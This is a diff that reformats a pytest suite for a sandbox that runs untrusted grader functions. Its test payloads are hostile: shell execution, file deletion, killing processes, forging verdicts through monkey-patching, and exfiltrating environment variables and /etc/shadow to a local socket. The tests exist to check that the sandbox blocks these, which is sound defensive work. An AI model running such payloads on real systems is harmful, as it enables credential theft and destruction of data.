@@ -28,12 +28,22 @@ ROOT = Path(__file__).resolve().parents[1]
 HONEST = [  # (code, response, expected verdict): must never change, whatever ran before them
     ("def check_following(instruction, response):\n    return len(response.split()) == 2\n", "two words", True),
     ("def check_following(instruction, response):\n    return len(response.split()) == 2\n", "one", False),
-    ("import json\ndef check_following(instruction, response):\n    return json.loads(response) == {'a': 1}\n",
-     '{"a": 1}', True),
-    ("import decimal\ndef check_following(instruction, response):\n"
-     "    return str(decimal.Decimal(1) / decimal.Decimal(3)) == '0.' + '3' * 28\n", "x", True),
-    ("import re\ndef check_following(instruction, response):\n    return re.search('cat', response) is not None\n",
-     "a dog", False),
+    (
+        "import json\ndef check_following(instruction, response):\n    return json.loads(response) == {'a': 1}\n",
+        '{"a": 1}',
+        True,
+    ),
+    (
+        "import decimal\ndef check_following(instruction, response):\n"
+        "    return str(decimal.Decimal(1) / decimal.Decimal(3)) == '0.' + '3' * 28\n",
+        "x",
+        True,
+    ),
+    (
+        "import re\ndef check_following(instruction, response):\n    return re.search('cat', response) is not None\n",
+        "a dog",
+        False,
+    ),
 ]
 
 
@@ -81,21 +91,28 @@ def payloads(marker: Path, victim: Path, port: int) -> dict[str, str]:
     m, v = repr(str(marker)), repr(str(victim))
     return {
         "shell_as_root": code(f"assert os.system('touch ' + {m}) == 0, 'no shell'\nreturn True", "import os"),
-        "fork_exec": code(f"""
+        "fork_exec": code(
+            f"""
             import _posixsubprocess
             r, w = os.pipe()
             _posixsubprocess.fork_exec([b'/bin/sh', b'-c', b'touch ' + {m}.encode()], [b'/bin/sh'], True, (),
                                        None, None, -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None,
                                        None, -1, None, False)
-            return True""", "import os"),
-        "fork": code(f"""
+            return True""",
+            "import os",
+        ),
+        "fork": code(
+            f"""
             if os.fork() == 0:
                 open({m}, 'w').close()
                 os._exit(0)
-            return True""", "import os"),
+            return True""",
+            "import os",
+        ),
         "write_file": code(f"open({m}, 'w').write('x')\nreturn True"),
         "delete_file": code(f"os.unlink({v})\nreturn True", "import os"),
-        "exfiltrate": code(f"""
+        "exfiltrate": code(
+            f"""
             data = repr(dict(os.environ)).encode()
             try:
                 data += open('/etc/shadow', 'rb').read()
@@ -103,12 +120,17 @@ def payloads(marker: Path, victim: Path, port: int) -> dict[str, str]:
                 pass
             s = socket.create_connection(('127.0.0.1', {port}), timeout=1)
             s.sendall(data)
-            return True""", "import os, socket"),
+            return True""",
+            "import os, socket",
+        ),
         "kill_parent": code("os.kill(os.getppid(), 9)\nos.kill(1, 9)\nreturn True", "import os"),
-        "ctypes_syscall": code(f"""
+        "ctypes_syscall": code(
+            f"""
             libc = ctypes.CDLL(None)
             assert libc.syscall(87, {v}.encode()) == 0, 'unlink refused'  # unlink(2) straight from C
-            return True""", "import ctypes"),
+            return True""",
+            "import ctypes",
+        ),
     }
 
 
@@ -122,7 +144,7 @@ def test_class1_real_interpreter_reaches_nothing_on_the_host(bare, tmp_path, lis
     assert not marker.exists()
     assert victim.read_text() == "keep me"
     assert nobody_connected(listener)
-    assert_honest(results[len(attacks):])
+    assert_honest(results[len(attacks) :])
     for name, result in by_name.items():  # each attack fails with the kernel's refusal, a verdict of None
         assert result.passed is None and result.error, (name, result)
     assert "Operation not permitted" in by_name["fork"].error
@@ -133,11 +155,13 @@ def test_class1_control_without_any_layer_the_attacks_are_real(tmp_path, listene
     marker, victim = tmp_path / "pwned", tmp_path / "victim"
     victim.write_text("keep me")
     attacks = payloads(marker, victim, listener.getsockname()[1])
-    with SandboxPool(workers=1, timeout_s=2, _python_layers=False, _seccomp=False, namespaces=False,
-                     allow_unsandboxed=True) as naked:
+    with SandboxPool(
+        workers=1, timeout_s=2, _python_layers=False, _seccomp=False, namespaces=False, allow_unsandboxed=True
+    ) as naked:
         assert naked.isolation == {} or True  # filled on first use
-        results = naked.check_batch([CheckTask(attacks[n], "instruction", "x") for n in
-                                     ("write_file", "delete_file", "exfiltrate")])
+        results = naked.check_batch(
+            [CheckTask(attacks[n], "instruction", "x") for n in ("write_file", "delete_file", "exfiltrate")]
+        )
         assert naked.isolation["sandboxed"] is False
     assert [r.passed for r in results] == [True, True, True]
     assert marker.exists() and not victim.exists()
@@ -145,7 +169,8 @@ def test_class1_control_without_any_layer_the_attacks_are_real(tmp_path, listene
 
 
 def test_class2_one_row_cannot_change_another_functions_verdicts(bare):
-    liar = code("""
+    liar = code(
+        """
         decimal.getcontext().prec = 1
         json.loads = lambda *a, **k: {'a': 1}
         builtins.len = lambda x: 2
@@ -156,7 +181,9 @@ def test_class2_one_row_cannot_change_another_functions_verdicts(bare):
                     os.write(fd, bytes([2]) + i.to_bytes(4, 'big') + bytes([1]) + (0).to_bytes(2, 'big'))
                 except OSError:
                     pass
-        return False""", "import builtins, decimal, json, os, re")
+        return False""",
+        "import builtins, decimal, json, os, re",
+    )
     first = bare.check_batch([CheckTask(liar, "instruction", "x")] * 3 + honest_tasks())
     later = bare.check_batch(honest_tasks())
     assert_honest(first[3:])
@@ -167,19 +194,24 @@ def test_class2_one_row_cannot_change_another_functions_verdicts(bare):
 
 def test_class2_monkey_patching_in_the_normal_pool_cannot_leak():
     with SandboxPool(workers=1, timeout_s=0.5) as pool:
-        patches = [code("decimal.getcontext().prec = 1\nreturn True", "import decimal"),
-                   code("self_ = re\nreturn True", "import re")]
+        patches = [
+            code("decimal.getcontext().prec = 1\nreturn True", "import decimal"),
+            code("self_ = re\nreturn True", "import re"),
+        ]
         results = pool.check_batch([CheckTask(p, "i", "x") for p in patches] + honest_tasks())
-        assert_honest(results[len(patches):])
+        assert_honest(results[len(patches) :])
         assert_honest(pool.check_batch(honest_tasks()))
 
 
-@pytest.mark.parametrize("hang", [
-    code("time.sleep(3600)\nreturn True", "import time"),
-    code("select.select([], [], [], 3600)\nreturn True", "import select"),
-    code("os.read(0, 1)\nreturn True", "import os"),  # stdin is /dev/null: returns; then sleeps below
-    code("signal.pause()\nreturn True", "import signal"),
-])
+@pytest.mark.parametrize(
+    "hang",
+    [
+        code("time.sleep(3600)\nreturn True", "import time"),
+        code("select.select([], [], [], 3600)\nreturn True", "import select"),
+        code("os.read(0, 1)\nreturn True", "import os"),  # stdin is /dev/null: returns; then sleeps below
+        code("signal.pause()\nreturn True", "import signal"),
+    ],
+)
 def test_class3_a_sleeping_check_is_killed_by_the_parents_clock(bare, hang):
     started = time.monotonic()
     results = bare.check_batch([CheckTask(hang, "instruction", "x")] + honest_tasks())
@@ -191,10 +223,13 @@ def test_class3_a_sleeping_check_is_killed_by_the_parents_clock(bare, hang):
 
 def test_class3_forged_progress_does_not_buy_time(bare):
     # Announces itself defined and answers its first check at once, then sleeps in the second.
-    forger = code("""
+    forger = code(
+        """
         if response == 'second':
             time.sleep(3600)
-        return True""", "import time")
+        return True""",
+        "import time",
+    )
     started = time.monotonic()
     results = bare.check_batch([CheckTask(forger, "i", r) for r in ("first", "second", "third")])
     assert time.monotonic() - started < 10
@@ -243,12 +278,26 @@ print(json.dumps({"status": status, "left": [" ".join(p.cmdline())[:120] for p i
 def _run_harness(mode: str, tmp_path: Path) -> dict:
     data, responses = tmp_path / "data.jsonl", tmp_path / "responses.jsonl"
     sleeper = "def check_following(instruction, response):\n    return sum(range(10 ** 14)) > 0\n"
-    data.write_text(json.dumps({"id": "r1", "prompt": "p", "checkers": ["[rule] slow", "[rule] fine"],
-                                "functions": [sleeper, "def check_following(i, r):\n    return True\n"]}) + "\n")
+    data.write_text(
+        json.dumps(
+            {
+                "id": "r1",
+                "prompt": "p",
+                "checkers": ["[rule] slow", "[rule] fine"],
+                "functions": [sleeper, "def check_following(i, r):\n    return True\n"],
+            }
+        )
+        + "\n"
+    )
     responses.write_text(json.dumps({"id": "r1", "response": "x"}) + "\n")
     env = dict(os.environ, PYTHONPATH=str(ROOT))
-    done = subprocess.run([sys.executable, "-c", HARNESS, mode, str(data), str(responses)], capture_output=True,
-                          text=True, timeout=180, env=env)
+    done = subprocess.run(
+        [sys.executable, "-c", HARNESS, mode, str(data), str(responses)],
+        capture_output=True,
+        text=True,
+        timeout=180,
+        env=env,
+    )
     assert done.returncode == 0, done.stderr[-2000:]
     return json.loads(done.stdout.splitlines()[-1])
 
@@ -271,18 +320,34 @@ def raw_record(body: str) -> str:
     return code(f"os.write(3, {body})\nreturn True", "import os, json")
 
 
-@pytest.mark.parametrize("name,sender,fragment", [
-    ("deep_call", raw_record("bytes([3]) + (200001).to_bytes(4, 'big') + b'[' * 100000 + b'1' + b']' * 100000"),
-     "not JSON"),
-    ("unknown_type", raw_record("bytes([9])"), "unknown record type"),
-    ("error_too_long", raw_record("bytes([2, 0, 0, 0, 0, 2]) + (60000).to_bytes(2, 'big') + b'x' * 60000"),
-     "does not fit the schema"),
-    ("flood", code("""
+@pytest.mark.parametrize(
+    "name,sender,fragment",
+    [
+        (
+            "deep_call",
+            raw_record("bytes([3]) + (200001).to_bytes(4, 'big') + b'[' * 100000 + b'1' + b']' * 100000"),
+            "not JSON",
+        ),
+        ("unknown_type", raw_record("bytes([9])"), "unknown record type"),
+        (
+            "error_too_long",
+            raw_record("bytes([2, 0, 0, 0, 0, 2]) + (60000).to_bytes(2, 'big') + b'x' * 60000"),
+            "does not fit the schema",
+        ),
+        (
+            "flood",
+            code(
+                """
         for _ in range(20000):
             os.write(3, bytes([1]) * 65536)
-        return True""", "import os"), "defin"),
-    ("huge_call", raw_record("bytes([3]) + (2 ** 31).to_bytes(4, 'big')"), "sent a call of"),
-])
+        return True""",
+                "import os",
+            ),
+            "defin",
+        ),
+        ("huge_call", raw_record("bytes([3]) + (2 ** 31).to_bytes(4, 'big')"), "sent a call of"),
+    ],
+)
 def test_class4_malformed_replies_are_that_functions_error(bare, name, sender, fragment):
     results = bare.check_batch([CheckTask(sender, "i", "x"), CheckTask(sender, "i", "y")] + honest_tasks())
     assert all(r.passed is None for r in results[:2]), name
@@ -291,15 +356,16 @@ def test_class4_malformed_replies_are_that_functions_error(bare, name, sender, f
 
 
 def test_class5_crashes_are_charged_to_the_check_that_was_running(bare):
-    segfault = code("""
+    segfault = code(
+        """
         if response.startswith('crash'):
             ctypes.string_at(0)
-        return response.endswith('yes')""", "import ctypes")
+        return response.endswith('yes')""",
+        "import ctypes",
+    )
     responses = ["crash-1", "a yes", "crash-2", "crash-3", "b no", "c yes"]
-    others = [code(f"ctypes.string_at(0)\nreturn True  # {i}", "import ctypes")
-              for i in range(3)]
-    tasks = ([CheckTask(segfault, "i", r) for r in responses] + [CheckTask(c, "i", "x") for c in others]
-             + honest_tasks())
+    others = [code(f"ctypes.string_at(0)\nreturn True  # {i}", "import ctypes") for i in range(3)]
+    tasks = [CheckTask(segfault, "i", r) for r in responses] + [CheckTask(c, "i", "x") for c in others] + honest_tasks()
     results = bare.check_batch(tasks)
     assert [r.passed for r in results[:6]] == [None, True, None, None, False, True]
     assert all("signal 11" in results[i].error for i in (0, 2, 3))
@@ -362,7 +428,7 @@ def test_randomized_compositions_cause_no_side_effect_and_no_verdict_change(tmp_
             tasks += [CheckTask(attack, "instruction", "x")] + honest_tasks()
         results = pool.check_batch(tasks)
         for start in range(0, len(tasks), 1 + len(HONEST)):
-            assert_honest(results[start + 1:start + 1 + len(HONEST)])
+            assert_honest(results[start + 1 : start + 1 + len(HONEST)])
         assert_honest(pool.check_batch(honest_tasks()))
     time.sleep(0.1)
     assert not marker.exists()
